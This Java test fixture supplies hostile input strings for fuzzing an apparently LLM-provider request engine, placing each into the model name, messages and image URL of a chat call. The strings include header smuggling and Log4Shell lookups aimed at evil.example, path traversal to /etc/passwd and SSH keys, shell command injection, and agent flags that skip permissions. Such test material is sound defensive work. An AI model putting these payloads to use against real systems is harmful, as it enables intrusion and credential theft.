package dev.sluice.engine;

import dev.sluice.provider.ProviderCall;
import dev.sluice.schema.Endpoint;
import dev.sluice.schema.Json;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** Jobs that try to be more than jobs. */
public final class HostileJobs {

  /** What somebody might write where a name or a text is expected. */
  public static final List<String> TEXTS =
      List.of(
          "x\r\nX-Injected: 1\r\n\r\nGET /stolen HTTP/1.1\r\nHost: evil.example",
          "x\nX-Injected: 1",
          "../../../stolen",
          "..",
          "%2e%2e%2fstolen",
          "..\\\\..\\\\stolen",
          "models/../../stolen",
          "http://evil.example/stolen",
          "//evil.example/stolen",
          "file:///etc/passwd",
          "@/etc/passwd",
          "/etc/passwd",
          "~/.ssh/id_rsa",
          "--dangerously-skip-permissions",
          "-c",
          "--yolo",
          "$(touch stolen)",
          "`touch stolen`",
          "; touch stolen #",
          "| touch stolen",
          "a\u0000b",
          "\u001b]0;stolen\u0007",
          "\u202egnp.exe",
          "\ud800",
          "?key=stolen&alt=media",
          "x#stolen",
          "user:password@evil.example",
          "${HOME}",
          "${file:/etc/passwd}",
          "{{env.HOME}}",
          "%s%n%x",
          "${jndi:ldap://evil.example/a}",
          "x".repeat(5_000));

  private HostileJobs() {}

  static Stream<String> texts() {
    return TEXTS.stream();
  }

  /**
   * A call that has the text wherever a job may have one.
   *
   * @param images whether it has an image, for somebody else to fetch
   */
  public static ProviderCall call(String text, boolean images) {
    ObjectNode body = Json.mapper().createObjectNode().put("model", text).put("user", text);
    ArrayNode messages = body.putArray("messages");
    messages.addObject().put("role", "system").put("content", text);
    ObjectNode asked = messages.addObject().put("role", "user");
    if (images) {
      ArrayNode parts = asked.putArray("content");
      parts.addObject().put("type", "text").put("text", text);
      parts.addObject().put("type", "image_url").putObject("image_url").put("url", text);
    } else {
      asked.put("content", text);
    }
    return new ProviderCall(
        text + ".1", Endpoint.CHAT_COMPLETIONS, text, body, Duration.ofSeconds(30));
  }

  /** The same, as somebody who knows what a body may hold would write it. */
  public static ProviderCall named(String model, String text) {
    ProviderCall call = call(text, false);
    return new ProviderCall(call.callId(), call.endpoint(), model, call.body(), call.budget());
  }
}
